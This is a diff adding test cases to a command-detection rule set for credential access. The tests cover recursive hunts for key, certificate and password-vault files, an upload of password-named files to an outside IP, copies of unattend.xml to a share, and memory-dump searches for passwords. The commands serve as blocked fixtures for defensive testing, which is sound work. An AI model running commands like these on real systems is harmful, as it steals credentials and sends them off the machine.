@@ -66,3 +66,86 @@ describe('credential access', () => {
     expect(run(credentialAccessRules, text, shell, shell === 'zsh' ? 'macos' : undefined)).toEqual([]);
   });
 });
+
+describe('credential files gathered by name (T1552.001)', () => {
+  const collected: Array<[string, Shell]> = [
+    [
+      'Get-ChildItem -Path C:\\ -Include *.kdbx,*.pfx,*.p12 -Recurse -ErrorAction SilentlyContinue | Copy-Item -Destination C:\\Users\\Public\\l',
+      'powershell',
+    ],
+    ['gci C:\\Users -Recurse -Include id_rsa,*.ppk,*.ovpn -Force | Compress-Archive -DestinationPath $env:TEMP\\k.zip', 'powershell'],
+    ['dir D:\\ -Recurse -Filter unattend.xml | % { Copy-Item $_.FullName \\\\10.0.0.5\\share }', 'powershell'],
+    ['ls -r C:\\Users -include "*.rdp","*.kdbx" | cp -Destination E:\\out', 'powershell'],
+    [
+      'Get-ChildItem $env:USERPROFILE -Recurse -Include *password* | ForEach-Object { Invoke-WebRequest -Uri http://198.51.100.7/u -Method Post -InFile $_.FullName }',
+      'powershell',
+    ],
+  ];
+  it.each(collected)('blocks collecting secret files: %s', (text, shell) => {
+    const f = run(credentialAccessRules, text, shell);
+    expect(verdict(f)).toBe('block');
+    expect(ruleIds(f)).toContain('cred.secret-file-collect');
+    expect(spansValid(f, text)).toBe(true);
+  });
+
+  const listed: Array<[string, Shell]> = [
+    ['Get-ChildItem -Path $env:USERPROFILE -Recurse -Include *.kdbx,*.key,*.pfx', 'powershell'],
+    ['gci -Recurse -Path C:\\ -Filter *.kdbx -ErrorAction SilentlyContinue', 'powershell'],
+    ['Get-ChildItem C:\\Users\\*\\ -Recurse -Filter id_rsa -Force', 'powershell'],
+    ['Get-ChildItem -Recurse -LiteralPath \\\\fs01\\home -Include credentials.xml,groups.xml | Select-Object FullName', 'powershell'],
+    ['Get-ChildItem C:\\Users\\*.pfx -Recurse', 'powershell'],
+    ['dir /s /b C:\\*.kdbx C:\\*.pfx', 'cmd'],
+    ['where /r C:\\Users *.ppk', 'cmd'],
+  ];
+  it.each(listed)('flags a recursive search for secret files: %s', (text, shell) => {
+    const f = run(credentialAccessRules, text, shell);
+    expect(verdict(f)).toBe('flag');
+    expect(ruleIds(f)).toContain('cred.secret-file-hunt');
+  });
+
+  const ordinary: Array<[string, Shell]> = [
+    ['Get-ChildItem C:\\Logs -Filter *.log -Recurse', 'powershell'],
+    ['Get-ChildItem cert:\\LocalMachine\\My', 'powershell'],
+    ['Get-ChildItem -Path Cert:\\CurrentUser\\My -Recurse', 'powershell'],
+    // One application's own certificates: where it keeps them, not a hunt over other users' files.
+    ["Get-ChildItem 'C:\\Program Files\\Contoso\\certs' -Filter *.pfx -Recurse | Copy-Item -Destination D:\\backup", 'powershell'],
+    ['Get-ChildItem C:\\Users -Include *.pfx', 'powershell'],
+    ['gci C:\\Users\\alice\\Documents -Filter *.docx -Recurse | Compress-Archive -DestinationPath D:\\backup\\docs.zip', 'powershell'],
+    ['Get-ChildItem -Path C:\\Windows\\Temp -Recurse -Include *.tmp | Remove-Item', 'powershell'],
+    ['dir /s /b C:\\*.log', 'cmd'],
+    ['where /r C:\\Windows notepad.exe', 'cmd'],
+  ];
+  it.each(ordinary)('allows ordinary listings: %s', (text, shell) => {
+    expect(verdict(run(credentialAccessRules, text, shell))).toBe('allow');
+  });
+});
+
+describe('memory images searched for passwords', () => {
+  const searched: Array<[string, Shell]> = [
+    ['strings core.1234 | grep -i pass', 'bash'],
+    ["gcore -o /tmp/dump 4321 && strings /tmp/dump.4321 | grep -iE 'password|secret'", 'bash'],
+    ['grep -a -i PASS /proc/1234/mem', 'bash'],
+    ['cat /proc/$(pgrep sshd)/mem | strings | grep -i passw', 'bash'],
+    ['Select-String -Path C:\\Windows\\Temp\\*.dmp -Pattern password', 'powershell'],
+    ['Get-Content .\\app.DMP | Select-String -Pattern "pwd|secret"', 'powershell'],
+    ['strings -el w3wp.dmp | findstr /i password', 'cmd'],
+  ];
+  it.each(searched)('blocks: %s', (text, shell) => {
+    const f = run(credentialAccessRules, text, shell);
+    expect(verdict(f)).toBe('block');
+    expect(ruleIds(f)).toContain('cred.memory-search');
+    expect(spansValid(f, text)).toBe(true);
+  });
+
+  const ordinary: Array<[string, Shell]> = [
+    ['strings /usr/bin/ls | grep -i version', 'bash'],
+    ['strings core.1234 | grep -i segfault', 'bash'],
+    ['grep -i pass /var/log/core.log', 'bash'],
+    ['grep -i password /etc/ssh/sshd_config', 'bash'],
+    ["Select-String -Path C:\\Logs\\*.log -Pattern 'error'", 'powershell'],
+    ['Select-String -Path C:\\Windows\\Minidump\\*.dmp -Pattern nvlddmkm', 'powershell'],
+  ];
+  it.each(ordinary)('allows: %s', (text, shell) => {
+    expect(verdict(run(credentialAccessRules, text, shell))).toBe('allow');
+  });
+});
